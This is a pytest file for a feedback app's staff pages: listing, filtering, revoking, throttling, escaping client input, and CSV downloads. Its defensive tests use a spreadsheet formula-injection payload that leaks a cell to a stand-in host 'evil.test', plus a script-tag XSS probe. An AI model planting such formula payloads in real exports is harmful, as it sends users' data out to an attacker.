"""The staff feedback pages: requests and responses with filters, a request's history, asking one client
(throttle and "ask anyway"), revoking, what clients typed shown escaped, and CSV downloads. Who may do what,
and erasing a client, are in ``test_feedback_staff_privacy``.

Pages run on the real clock, so the rows here are made relative to it (``clock``); responses are stored
directly, as the client's form would store them.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import zlib
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from argon2 import PasswordHasher
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session

import partnermon.accounts.security
from partnermon.feedback import links, staff
from partnermon.models import Base, FeedbackRequest, FeedbackResponse, OutboxEmail
from partnermon.partners import service as partners
from tests.conftest import text_of
from tests.factories import Cast

BASE = "http://partnermon.test"
EVIL = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'


@pytest.fixture(autouse=True)
def quick_password_hashing(monkeypatch: pytest.MonkeyPatch) -> None:
    # These tests are about feedback pages, not hashing: four cast passwords per test stay cheap.
    monkeypatch.setattr(partnermon.accounts.security, "_hasher", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))


@pytest.fixture
def clock() -> datetime:
    return datetime.now(timezone.utc).replace(microsecond=0)


def ask(session: Session, cast: Cast, when: datetime, email: str = "dana@client.test", *, practice: Any = None,
        **data: Any) -> FeedbackRequest:
    practice = practice or cast.harbour
    values = {"partner": "Acme Insurance" if practice is cast.harbour else "Zenith Platform",
              "client_email": email, "client_name": email.split("@")[0].title(), **data}
    actor = cast.bob if practice is cast.harbour else cast.charlie
    made = links.create_request(session, when, practice, values, actor=actor, source="form", base_url=BASE,
                                   adviser=actor, override_throttle=True)
    session.commit()
    return made.request


def answer(session: Session, request: FeedbackRequest, when: datetime, satisfaction: int = 4, **fields: Any
           ) -> FeedbackResponse:
    response = FeedbackResponse(practice_id=request.practice_id, request_id=request.id, partner_id=request.partner_id,
                                moment_id=request.moment_id, satisfaction=satisfaction, created_at=when,
                                updated_at=when, **fields)
    request.status, request.answered_at = "answered", when
    session.add(response)
    session.commit()
    return response


def open_link_answer(session: Session, cast: Cast, when: datetime, **fields: Any) -> FeedbackResponse:
    response = FeedbackResponse(practice_id=cast.harbour.id, request_id=None, partner_id=cast.acme.id,
                                satisfaction=fields.pop("satisfaction", 3), verified=False, created_at=when,
                                updated_at=when, **fields)
    session.add(response)
    session.commit()
    return response


def row_count(session: Session, model: type[Base]) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(model)) or 0


Snapshot = dict[str, dict[Any, tuple[Any, ...]]]


def snapshot(engine: Engine) -> Snapshot:
    """Every row of every table by primary key."""
    with engine.connect() as conn:
        return {table.name: {tuple(row._mapping[c.name] for c in table.primary_key.columns): tuple(row)
                             for row in conn.execute(select(table))}
                for table in Base.metadata.sorted_tables}


# --- lists and filters --------------------------------------------------------------------------------

def test_the_requests_list_shows_the_effective_status_of_each_request(session: Session, cast: Cast, browser,
                                                                      clock: datetime) -> None:  # type: ignore[no-untyped-def]
    ask(session, cast, clock - timedelta(hours=1), "fresh@client.test")
    stale = ask(session, cast, clock - timedelta(days=40), "stale@client.test")
    stale.status = "sent"           # the nightly job has not marked it expired yet
    done = ask(session, cast, clock - timedelta(days=45), "done@client.test")
    answer(session, done, clock - timedelta(days=44))   # answered, and its link has run out since: still answered
    session.commit()

    page = staff.list_requests(session, clock, cast.harbour.id)
    assert [(r.client_email, status) for r, status in page.items] == [
        ("fresh@client.test", "queued"), ("stale@client.test", "expired"), ("done@client.test", "answered")]
    browser.sign_in("vera@harbour.test")
    text = text_of(browser.get("/feedback/requests"))
    assert "Fresh fresh@client.test Acme Insurance — bob@harbour.test Waiting to be sent" in text
    assert "Stale stale@client.test Acme Insurance — bob@harbour.test Expired" in text
    assert "Done done@client.test Acme Insurance — bob@harbour.test Answered 4 – Satisfied" in text


def test_the_requests_list_filters_by_effective_status_partner_and_adviser(session: Session, cast: Cast, browser,
                                                                           clock: datetime) -> None:  # type: ignore[no-untyped-def]
    beacon = partners.create_partner(session, clock, cast.harbour.id, "test", {"name": "Beacon Life"})
    session.commit()
    ask(session, cast, clock - timedelta(days=40), "stale@client.test")
    ask(session, cast, clock, "beacon@client.test", partner="Beacon Life")
    by_alice = links.create_request(session, clock, cast.harbour, {"partner": "Acme Insurance",
                                       "client_email": "alices@client.test"}, actor=cast.alice, source="form",
                                       base_url=BASE, adviser=cast.alice)
    session.commit()
    browser.sign_in("vera@harbour.test")

    def listed(query: str) -> set[str]:
        return set(re.findall(r"[a-z]+@client\.test", text_of(browser.get("/feedback/requests?" + query))))

    assert listed("") == {"stale@client.test", "beacon@client.test", "alices@client.test"}
    assert listed("status=expired") == {"stale@client.test"}
    assert listed("status=queued") == {"beacon@client.test", "alices@client.test"}
    assert listed(f"partner={beacon.id}") == {"beacon@client.test"}
    assert listed(f"adviser={cast.alice.id}") == {by_alice.request.client_email}
    assert listed(f"status=queued&partner={cast.acme.id}&adviser={cast.bob.id}") == set()
    assert "No requests match these filters" in text_of(browser.get(f"/feedback/requests?partner={cast.zenith.id}"))
    # Nonsense filters are no filter, not an error.
    assert listed("status=bogus&partner=x&adviser=%C2%B2") == listed("")


def test_the_requests_list_shows_fifty_a_page(session: Session, cast: Cast, browser, clock: datetime) -> None:  # type: ignore[no-untyped-def]
    for number in range(51):
        session.add(FeedbackRequest(practice_id=cast.harbour.id, partner_id=cast.acme.id, client_name="",
                                    client_email=f"c{number}@client.test", token_hash=f"{number:064x}",
                                    status="queued", source="csv", created_at=clock - timedelta(minutes=number),
                                    expires_at=clock + timedelta(days=30)))
    session.commit()
    browser.sign_in("bob@harbour.test")
    first = browser.get("/feedback/requests").get_data(as_text=True)
    second = browser.get("/feedback/requests?page=2").get_data(as_text=True)
    assert first.count('<th scope="row">') == 50 and "c0@client.test" in first and "c50@client.test" not in first
    assert second.count('<th scope="row">') == 1 and "c50@client.test" in second
    assert "Page 1 of 2 (51 rows)" in text_of(browser.get("/feedback/requests"))


def test_an_empty_requests_list_explains_every_way_to_ask_for_feedback(cast: Cast, browser) -> None:  # type: ignore[no-untyped-def]
    browser.sign_in("bob@harbour.test")
    response = browser.get("/feedback/requests")
    html, text = response.get_data(as_text=True), text_of(response)
    assert "No feedback requests yet" in text
    assert 'href="/feedback/requests/new"' in html and 'href="/feedback/import"' in html
    assert 'href="/settings/api-keys"' not in html and "Settings › API keys (owners)" in text  # owners' page
    assert "partnermon feedback-link --practice harbour" in text
    browser.post("/sign-out")
    assert 'href="/settings/api-keys"' in browser.sign_in("alice@harbour.test").get("/feedback/requests").get_data(
        as_text=True)


def test_the_responses_list_filters_by_partner_moment_and_rating_and_marks_open_link_answers(
        session: Session, cast: Cast, browser, clock: datetime) -> None:  # type: ignore[no-untyped-def]
    happy = answer(session, ask(session, cast, clock, "happy@client.test", touchpoint="Claims form"), clock, 5)
    unhappy = answer(session, ask(session, cast, clock, "unhappy@client.test", touchpoint="service"), clock, 1)
    open_link_answer(session, cast, clock, satisfaction=3, client_email="walkin@client.test")
    browser.sign_in("vera@harbour.test")

    def listed(query: str) -> str:
        return text_of(browser.get("/feedback/responses?" + query))

    everything = listed("")
    assert "Happy" in everything and "Unhappy" in everything
    assert re.search(r"walkin@client.test open link — unverified Acme Insurance", everything)
    claims = listed(f"moment={happy.moment_id}")
    assert "Happy" in claims and "Unhappy" not in claims and "walkin" not in claims
    service = listed(f"moment={unhappy.moment_id}")
    assert "Unhappy" in service and "Happy happy@" not in service
    one_star = listed("rating=1")
    assert "Unhappy" in one_star and "1 – Very dissatisfied" in one_star and "happy@client.test" not in one_star
    assert "No responses match" in listed(f"partner={cast.zenith.id}")


# --- a request's page, revoking -----------------------------------------------------------------------

def test_the_request_page_shows_its_history_and_links_the_response(session: Session, cast: Cast, browser,
                                                                   clock: datetime) -> None:  # type: ignore[no-untyped-def]
    asked = ask(session, cast, clock - timedelta(days=2), touchpoint="Claims form", external_ref="CLM-7")
    asked.sent_at, asked.opened_at = clock - timedelta(days=2), clock - timedelta(days=1)
    response = answer(session, asked, clock - timedelta(hours=3), 2, comment="Slow")
    browser.sign_in("vera@harbour.test")
    page = browser.get(f"/feedback/requests/{asked.id}")
    text = text_of(page)
    for words in ("Dana about Acme Insurance Answered", "Claims form (Claims and hardship)", "Reference CLM-7",
                  "Asked ", "Invitation sent ", "Opened ", "Answered ", "Link works until",
                  "2 – Dissatisfied — with a comment"):
        assert words in text
    assert f'href="/feedback/responses/{response.id}"' in page.get_data(as_text=True)
    assert "Revoke the link" not in text   # a viewer, and the link is answered anyway


def test_an_adviser_revokes_an_open_link_and_it_stops_working(session: Session, cast: Cast, browser,
                                                               clock: datetime) -> None:  # type: ignore[no-untyped-def]
    made = links.create_request(session, clock, cast.harbour, {"partner": "Acme Insurance",
                                   "client_email": "dana@client.test"}, actor=cast.bob, source="form", base_url=BASE)
    session.commit()
    browser.sign_in("bob@harbour.test")
    assert "Revoke the link" in text_of(browser.get(f"/feedback/requests/{made.request.id}"))
    response = browser.post(f"/feedback/requests/{made.request.id}/revoke")
    assert response.status_code == 302
    text = text_of(browser.get(response.headers["Location"]))
    assert "Revoked the link sent to dana@client.test" in text and "Revoked" in text
    session.expire_all()
    found = links.find_by_token(session, made.link.rsplit("/", 1)[1])
    assert found is not None and found.revoked_at is not None and not found.usable_at(clock)
    # The invitation had not gone out yet, so it never will: it would only carry a dead link.
    invitation = session.scalars(select(OutboxEmail).where(OutboxEmail.to_addr == "dana@client.test")).one()
    assert (invitation.status, invitation.last_error) == ("failed", "Not sent: the feedback link was revoked first.")


def test_revoking_an_answered_request_changes_nothing(session: Session, cast: Cast, browser, engine: Engine,
                                                      clock: datetime) -> None:  # type: ignore[no-untyped-def]
    asked = ask(session, cast, clock)
    answer(session, asked, clock)
    browser.sign_in("bob@harbour.test")
    before = snapshot(engine)
    response = browser.post(f"/feedback/requests/{asked.id}/revoke")
    assert response.status_code == 302
    assert "already answered, so there was nothing to revoke" in text_of(browser.get(response.headers["Location"]))
    assert snapshot(engine) == before


# --- asking one client --------------------------------------------------------------------------------

def test_the_form_queues_an_invitation_and_shows_the_link_only_once(session: Session, cast: Cast, browser) -> None:  # type: ignore[no-untyped-def]
    browser.sign_in("bob@harbour.test")
    form = browser.get("/feedback/requests/new").get_data(as_text=True)
    assert f'<option value="{cast.bob.id}" selected>' in form            # the adviser defaults to the one asking
    assert f'<option value="{cast.acme_claims.id}"' in form and '<option value="claim"' in form
    response = browser.post("/feedback/requests/new", {
        "client_name": "Dana", "client_email": "Dana@Client.test", "partner": str(cast.acme.id),
        "touchpoint": str(cast.acme_claims.id), "adviser": str(cast.alice.id), "external_ref": ""})
    # The link is in this one answer (the request's page), not in a flash message: that would put it in the
    # session cookie, which is signed but not encrypted.
    assert response.status_code == 201 and "no-store" in response.headers["Cache-Control"]
    stored = session.scalars(select(FeedbackRequest)).one()
    assert (stored.client_email, stored.adviser_id, stored.touchpoint_id, stored.source) == (
        "dana@client.test", cast.alice.id, cast.acme_claims.id, "form")
    assert session.scalars(select(OutboxEmail.to_addr)).all() == ["dana@client.test"]
    text = text_of(response)
    assert "Queued the invitation to dana@client.test about Acme Insurance" in text
    assert "Dana about Acme Insurance" in text and "copy it now" in text
    link = re.search(r"http://partnermon\.test/f/(\S+)", text)
    assert link is not None and links.find_by_token(session, link[1]).id == stored.id
    token = link[1]
    cookies = " ".join(response.headers.getlist("Set-Cookie"))
    assert token not in cookies and "/f/" not in cookies
    session_cookie = browser.client.get_cookie("partnermon_session")
    assert session_cookie is not None and token not in decoded_session(session_cookie.value)
    shown_again = browser.get(f"/feedback/requests/{stored.id}")
    assert shown_again.status_code == 200 and "/f/" not in text_of(shown_again)


def test_a_repeated_external_ref_on_the_form_shows_the_request_it_already_has_without_a_link(
        session: Session, cast: Cast, browser) -> None:  # type: ignore[no-untyped-def]
    browser.sign_in("bob@harbour.test")
    form = {"client_email": "dana@client.test", "partner": str(cast.acme.id), "external_ref": "CLM-7"}
    assert browser.post("/feedback/requests/new", form).status_code == 201
    again = browser.post("/feedback/requests/new", {**form, "override_throttle": "1"})
    stored = session.scalars(select(FeedbackRequest)).one()
    assert again.status_code == 302 and again.headers["Location"].endswith(f"/feedback/requests/{stored.id}")
    text = text_of(browser.get(again.headers["Location"]))
    assert "A request with the reference CLM-7 already exists" in text and "/f/" not in text


def decoded_session(cookie: str) -> str:
    """The session cookie's payload as text: signed, not encrypted, so anyone holding it can read it."""
    payload = cookie.lstrip(".").split(".")[0]
    raw = base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4))
    return (zlib.decompress(raw) if cookie.startswith(".") else raw).decode("utf-8", "replace")


def test_a_recently_asked_client_is_held_back_with_the_reason_until_the_adviser_asks_anyway(
        session: Session, cast: Cast, browser, clock: datetime) -> None:  # type: ignore[no-untyped-def]
    ask(session, cast, clock - timedelta(days=3))
    browser.sign_in("bob@harbour.test")
    form = {"client_email": "dana@client.test", "partner": str(cast.acme.id), "adviser": str(cast.bob.id)}
    held = browser.post("/feedback/requests/new", form)
    assert held.status_code == 422
    text = text_of(held)
    assert "waits 30 days between requests to one client" in text and "Ask anyway" in text
    assert 'name="override_throttle"' in held.get_data(as_text=True)
    assert row_count(session, FeedbackRequest) == 1
    assert browser.post("/feedback/requests/new", {**form, "override_throttle": "1"}).status_code == 201
    assert row_count(session, FeedbackRequest) == 2
    latest = session.scalars(select(FeedbackRequest).order_by(FeedbackRequest.id.desc())).first()
    assert latest is not None and latest.throttle_overridden and latest.adviser_id == cast.bob.id


def test_the_form_names_each_bad_field_and_creates_nothing(session: Session, cast: Cast, browser) -> None:  # type: ignore[no-untyped-def]
    browser.sign_in("alice@harbour.test")
    response = browser.post("/feedback/requests/new", {"client_email": "not-an-email", "partner": str(cast.acme.id),
                                                        "touchpoint": "999999", "adviser": str(cast.bob.id)})
    assert response.status_code == 422
    text = text_of(response)
    assert "is not an email address" in text and "is not one of Acme Insurance's touchpoints" in text
    assert "999999" not in text   # errors name things, never ids
    for adviser in (cast.charlie.id, cast.vera.id):   # another practice's owner; a viewer does not follow up
        refused = browser.post("/feedback/requests/new", {"client_email": "dana@client.test",
                                                           "partner": str(cast.acme.id), "adviser": str(adviser)})
        assert refused.status_code == 422 and "Choose an owner or adviser of your practice" in text_of(refused)
    assert row_count(session, FeedbackRequest) == 0 and row_count(session, OutboxEmail) == 0


def test_asking_a_client_starts_with_no_partner_chosen_and_groups_touchpoints_by_partner(
        session: Session, cast: Cast, browser, clock: datetime) -> None:  # type: ignore[no-untyped-def]
    birch = partners.create_partner(session, clock, cast.harbour.id, "test", {"name": "Birch Life"})
    partners.create_touchpoint(session, clock, birch, "test", {"name": "Portal login", "moment": "service"})
    session.commit()
    browser.sign_in("bob@harbour.test")
    form = browser.get("/feedback/requests/new").get_data(as_text=True)
    partner_select = form[form.index('<select id="f-partner"'):form.index("</select>", form.index('id="f-partner"'))]
    assert '<option value="">Choose a partner</option>' in partner_select and "selected" not in partner_select
    # Without JavaScript each partner's touchpoints sit under its name; ask_client.js then offers only the chosen one's.
    assert re.search(r'<optgroup label="Touchpoints of Acme Insurance" data-partner="%d">\s*<option value="%d"[^>]*>Claims form'
                     % (cast.acme.id, cast.acme_claims.id), form)
    assert '<optgroup label="Touchpoints of Birch Life"' in form and "ask_client.js" in form
    # From a partner's page the partner is chosen on purpose.
    chosen = browser.get(f"/feedback/requests/new?partner={cast.acme.id}").get_data(as_text=True)
    assert f'<option value="{cast.acme.id}" selected>Acme Insurance</option>' in chosen


def test_sending_without_a_partner_asks_for_one_by_name(session: Session, cast: Cast, browser) -> None:  # type: ignore[no-untyped-def]
    browser.sign_in("bob@harbour.test")
    response = browser.post("/feedback/requests/new", {"client_email": "dana@client.test", "partner": "",
                                                        "adviser": str(cast.bob.id)})
    assert response.status_code == 422 and "Choose the partner this feedback is about" in text_of(response)
    assert row_count(session, FeedbackRequest) == 0


def test_a_touchpoint_of_another_partner_is_refused_with_both_names_never_ids(session: Session, cast: Cast, browser,
                                                                             clock: datetime) -> None:  # type: ignore[no-untyped-def]
    birch = partners.create_partner(session, clock, cast.harbour.id, "test", {"name": "Birch Life"})
    session.commit()
    browser.sign_in("bob@harbour.test")
    # Without JavaScript every partner's touchpoints are offered: Acme's claims form picked with Birch Life chosen.
    response = browser.post("/feedback/requests/new", {"client_email": "dana@client.test", "partner": str(birch.id),
                                                        "touchpoint": str(cast.acme_claims.id), "adviser": str(cast.bob.id)})
    assert response.status_code == 422
    text = text_of(response)
    assert "“Claims form” is a touchpoint of Acme Insurance, not of Birch Life" in text
    assert f"“{cast.acme_claims.id}”" not in text
    html = response.get_data(as_text=True)
    assert f'<option value="{birch.id}" selected>Birch Life</option>' in html     # what was chosen, kept
    # A partner removed since the form was opened: said in words.
    gone = browser.post("/feedback/requests/new", {"client_email": "dana@client.test", "partner": "987654",
                                                    "adviser": str(cast.bob.id)})
    assert gone.status_code == 422 and "The partner you chose is no longer one of your partners" in text_of(gone)
    assert "987654" not in text_of(gone)
    assert row_count(session, FeedbackRequest) == 0


# --- what clients typed, shown and downloaded safely --------------------------------------------------

def test_html_typed_by_a_client_is_escaped_on_every_page_and_line_breaks_are_kept(session: Session, cast: Cast,
                                                                                   browser, clock: datetime) -> None:  # type: ignore[no-untyped-def]
    asked = ask(session, cast, clock, client_name="<script>alert(1)</script>")
    response = answer(session, asked, clock, 1, comment="<b>Dreadful</b>\nThey lost my <i>claim</i> twice")
    browser.sign_in("alice@harbour.test")
    for path in ("/feedback/requests", f"/feedback/requests/{asked.id}", "/feedback/responses",
                 f"/feedback/responses/{response.id}"):
        html = browser.get(path).get_data(as_text=True)
        assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html, path
    html = browser.get(f"/feedback/responses/{response.id}").get_data(as_text=True)
    assert "<b>Dreadful" not in html
    assert '<p class="notes">&lt;b&gt;Dreadful&lt;/b&gt;\nThey lost my &lt;i&gt;claim&lt;/i&gt; twice</p>' in html


def test_the_response_page_shows_every_answer_under_its_question(session: Session, cast: Cast, browser,
                                                                 clock: datetime) -> None:  # type: ignore[no-untyped-def]
    asked = ask(session, cast, clock, touchpoint="Claims form")
    response = answer(session, asked, clock, 2, recommend=3, effort=2, brand_effect="worse", comment="Slow",
                      wants_contact=True, contact_channel="phone", contact_phone="+44 20 7946 0000")
    browser.sign_in("vera@harbour.test")
    text = text_of(browser.get(f"/feedback/responses/{response.id}"))
    for words in ("How satisfied were you with Acme Insurance — Claims form? 2 – Dissatisfied",
                  "How likely are you to recommend Acme Insurance to a friend? 3 out of 10",
                  "Acme Insurance made it easy to do what I needed. Disagree (2 of 7)",
                  "Has this changed how you feel about Harbour Advice? Worse",
                  "Anything you'd like to tell us? Slow",
                  "I'd like someone from Harbour Advice to contact me Yes , by phone: +44 20 7946 0000",
                  "This client is dissatisfied.", "They feel worse about Harbour Advice"):
        assert words in text, words


def test_csv_downloads_neutralise_formulas_keep_the_filters_and_name_the_file(session: Session, cast: Cast, browser,
                                                                              clock: datetime) -> None:  # type: ignore[no-untyped-def]
    asked = ask(session, cast, clock, client_name=EVIL)
    answer(session, asked, clock, 1, comment=EVIL, contact_phone="")
    ask(session, cast, clock - timedelta(days=40), "stale@client.test")
    ask(session, cast, clock, "quay@client.test", practice=cast.quay)
    browser.sign_in("vera@harbour.test")

    download = browser.get("/feedback/requests.csv")
    assert download.mimetype == "text/csv"
    assert re.fullmatch(r'attachment; filename="harbour-feedback-requests-\d{4}-\d{2}-\d{2}\.csv"',
                        download.headers["Content-Disposition"])
    rows = list(csv.DictReader(io.StringIO(download.get_data(as_text=True))))
    assert [(r["client_email"], r["status"]) for r in rows] == [("dana@client.test", "answered"),
                                                                ("stale@client.test", "expired")]
    assert rows[0]["client_name"] == "'" + EVIL and rows[0]["partner"] == "Acme Insurance"
    only_expired = list(csv.DictReader(io.StringIO(browser.get("/feedback/requests.csv?status=expired").get_data(as_text=True))))
    assert [r["client_email"] for r in only_expired] == ["stale@client.test"]

    download = browser.get("/feedback/responses.csv?rating=1")
    assert re.fullmatch(r'attachment; filename="harbour-feedback-responses-\d{4}-\d{2}-\d{2}\.csv"',
                        download.headers["Content-Disposition"])
    [row] = csv.DictReader(io.StringIO(download.get_data(as_text=True)))
    assert row["comment"] == "'" + EVIL and row["client_name"] == "'" + EVIL
    assert (row["satisfaction"], row["satisfaction_label"], row["verified"]) == ("1", "Very dissatisfied", "True")
    assert list(csv.DictReader(io.StringIO(browser.get("/feedback/responses.csv?rating=5").get_data(as_text=True)))) == []


def test_a_download_gives_its_database_connection_back_whether_or_not_it_is_read(session: Session, cast: Cast,
                                                                                  browser, engine: Engine,
                                                                                  clock: datetime) -> None:  # type: ignore[no-untyped-def]
    answer(session, ask(session, cast, clock), clock)
    browser.sign_in("vera@harbour.test")
    in_use = engine.pool.checkedout()  # type: ignore[attr-defined]
    for path in ("/feedback/requests.csv", "/feedback/responses.csv"):
        unread = browser.get(path)    # a client that never reads the body must not hold a transaction open
        assert engine.pool.checkedout() == in_use, path  # type: ignore[attr-defined]
        assert "dana@client.test" in browser.get(path).get_data(as_text=True)
        assert engine.pool.checkedout() == in_use, path  # type: ignore[attr-defined]
        unread.close()
